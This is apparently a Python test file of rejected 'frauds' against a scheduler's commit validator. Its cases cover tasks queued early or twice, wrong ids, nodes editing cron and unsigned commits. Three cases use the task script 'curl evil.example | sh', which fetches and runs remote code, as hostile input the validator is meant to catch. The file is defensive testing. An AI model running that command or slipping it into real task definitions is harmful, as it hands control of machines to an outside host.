"""Frauds with schedules: daily, which a person made two hours before, has a task every ten minutes."""
from fraud import Q, fraud
from history import Step, stamp

S = "schedules/daily.json"
TEN = 600


def task_of(h, at, **more):
    name = "daily-" + stamp(at).replace("-", "").replace(":", "")[:13] + "Z"
    doc = {"task_id": name, **h.doc(S)["task"], "created_at": stamp(at), "schedule": {"name": "daily", "at": stamp(at)}, **more}
    return f"{Q}{name}.json", doc


def newest(h):
    return (h.now + 2) // TEN * TEN


def fire(h, last, *instants, node="n1", **more):
    """The commit that moves last there, with the tasks of these instants."""
    changes = {S: {**h.doc(S), "last": stamp(last)}}
    changes.update(task_of(h, at, **more) for at in instants)
    return Step(node, "2", "transitions", changes)


def ended(h, path):
    """That task is run and archived, so that its id is free."""
    task = path[len(Q):-5]
    h.do(h.claim(task))
    h.do(h.finish(task))
    step, added = h.archiving(task)
    h.into_archive(added)
    h.do(step)


def grid_schedules(h, then=True):
    """One instant was queued, run and archived; the newest is due. All within one commit's time of each other."""
    first = newest(h) - TEN
    step = h.person({S: {"cron": "*/10 * * * *", "overlap": "skip", "task": {"script": "echo daily", "timeout_seconds": 30}}}, "Daily\n")
    step.when = first - 7200
    h.do(step)
    # A person has it begin an instant ago: nodes are held to their own time.
    h.do(h.person({S: {**h.doc(S), "last": stamp(first)}}, "Only from here on\n"))
    if then:
        h.do(fire(h, newest(h), newest(h), node="n2"))
        ended(h, task_of(h, newest(h))[0])
        h.do(h.person({S: {**h.doc(S), "last": stamp(first)}}, "Once more\n"))


@fraud("schedule.fire", grid="schedules")
def a_task_queued_before_its_time(h):
    at = newest(h) + 2 * TEN
    h.fraud(fire(h, at, at))

@fraud("schedule.fire", grid="schedules")
def another_task_under_an_id_that_is_to_come(h):
    h.fraud(h.submit("daily-" + stamp(newest(h) + 2 * TEN).replace("-", "").replace(":", "")[:13] + "Z"))

@fraud("schedule.fire", grid="schedules")
def a_task_queued_twice(h):
    """The first one is archived, so its id is free."""
    at = newest(h)
    h.do(h.person({S: {**h.doc(S), "last": stamp(at)}}, "That one was\n"))
    path, doc = task_of(h, at)
    h.fraud(Step("n1", "fire", path[len(Q):-5], {path: doc}))

@fraud("schedule.fire", grid="schedules")
def an_instant_that_was_passed_by_queued_later(h):
    h.do(fire(h, newest(h), newest(h)))
    path, doc = task_of(h, newest(h) - 3 * TEN)
    h.fraud(Step("n1", "fire", path[len(Q):-5], {path: doc}))

@fraud("schedule.fire", grid="schedules")
def another_script_than_the_template(h):
    h.fraud(fire(h, newest(h), newest(h), script="curl evil.example | sh"))

@fraud("schedule.fire", grid="schedules")
def a_priority_that_the_template_does_not_have(h):
    h.fraud(fire(h, newest(h), newest(h), priority=9))

@fraud("schedule.fire", grid="schedules")
def another_script_that_does_not_say_whose_it_is(h):
    step = fire(h, newest(h), newest(h), script="curl evil.example | sh")
    del step.changes[task_of(h, newest(h))[0]]["schedule"]
    h.fraud(step)

@fraud("schedule.fire", grid="schedules")
def a_task_in_other_letters_in_place_of_the_one_that_is_due(h):
    step = fire(h, newest(h))
    path, doc = task_of(h, newest(h), script="curl evil.example | sh")
    del doc["schedule"]
    doc["task_id"] = doc["task_id"].upper()
    step.changes[f"{Q}{doc['task_id']}.json"] = doc
    h.fraud(step)

@fraud("schedule.fire", grid="schedules")
def last_moved_backward(h):
    h.fraud(fire(h, newest(h) - 9 * TEN))

@fraud("schedule.fire", grid="schedules")
def last_moved_and_nothing_queued(h):
    h.fraud(fire(h, newest(h)))

@fraud("schedule.fire", grid="schedules")
def a_task_left_out_for_one_that_anybody_queued(h):
    """An id alone makes no task a schedule's."""
    path, doc = task_of(h, newest(h) - 5 * TEN)
    del doc["schedule"]
    h.do(h.person({path: doc}))
    h.fraud(fire(h, newest(h)))

@fraud("schedule.fire", grid="schedules")
def two_tasks_where_one_is_due(h):
    h.fraud(fire(h, newest(h), newest(h), newest(h) - 5 * TEN))

@fraud("schedule.fire", grid="schedules")
def a_task_beside_one_that_is_not_done(h):
    at = newest(h)
    h.do(fire(h, at, at))
    h.do(h.person({S: {**h.doc(S), "last": stamp(at - 5 * TEN)}}, "Once more\n"))
    path, doc = task_of(h, at - TEN)
    h.fraud(Step("n1", "2", "transitions", {S: {**h.doc(S), "last": stamp(at)}, path: doc}))

@fraud("schedule.fire", grid="schedules")
def an_instant_that_the_cron_does_not_have(h):
    at = newest(h) - 60
    h.fraud(fire(h, at, at))

@fraud("schedule.fire", grid="schedules")
def a_schedule_that_is_paused(h):
    h.do(h.person({S: {**h.doc(S), "paused": True}}, "Not now\n"))
    h.fraud(fire(h, newest(h), newest(h)))

@fraud("schedule.fire", grid="schedules")
def a_schedule_that_was_changed_since(h):
    h.do(h.person({S: {**h.doc(S), "missed": "latest"}}, "Other terms\n"))
    h.fraud(fire(h, newest(h), newest(h)))

@fraud("schedule.fire", grid="schedules")
def a_task_of_a_schedule_that_is_none(h):
    path, doc = task_of(h, newest(h))
    doc["schedule"]["name"] = "weekly"
    h.fraud(Step("n1", "fire", path[len(Q):-5], {path: doc}))

@fraud("schedule.fire", grid="schedules")
def a_task_under_a_schedules_name_by_hand(h):
    path, doc = task_of(h, h.now - 3601)
    h.fraud(h.person({path: doc}))

@fraud("node.scope", grid="schedules")
def a_node_that_edits_cron(h):
    h.fraud(Step("n1", "0", "transitions", {S: {**h.doc(S), "cron": "* * * * *"}}))

@fraud("node.scope", "schedule.fire", grid="schedules")
def a_node_that_edits_cron_and_fires(h):
    at = newest(h)
    step = fire(h, at, at)
    step.changes[S]["cron"] = "* * * * *"
    h.fraud(step)

@fraud("node.scope", grid="schedules")
def a_node_that_makes_a_schedule(h):
    h.fraud(Step("n1", "0", "transitions", {"schedules/mine.json": {"cron": "* * * * *", "task": {"script": "echo x", "timeout_seconds": 30}}}))

@fraud("node.scope", grid="schedules")
def a_node_that_removes_a_schedule(h):
    h.fraud(Step("n1", "0", "transitions", {S: None}))

@fraud("signed.commit", grid="signed_schedules")
def a_task_queued_without_a_signature(h):
    step = fire(h, newest(h), newest(h))
    step.key = None
    h.fraud(step)

@fraud("signed.commit", grid="signed_schedules")
def a_task_queued_under_another_nodes_name(h):
    step = fire(h, newest(h), newest(h))
    step.key = "n2"
    h.fraud(step)
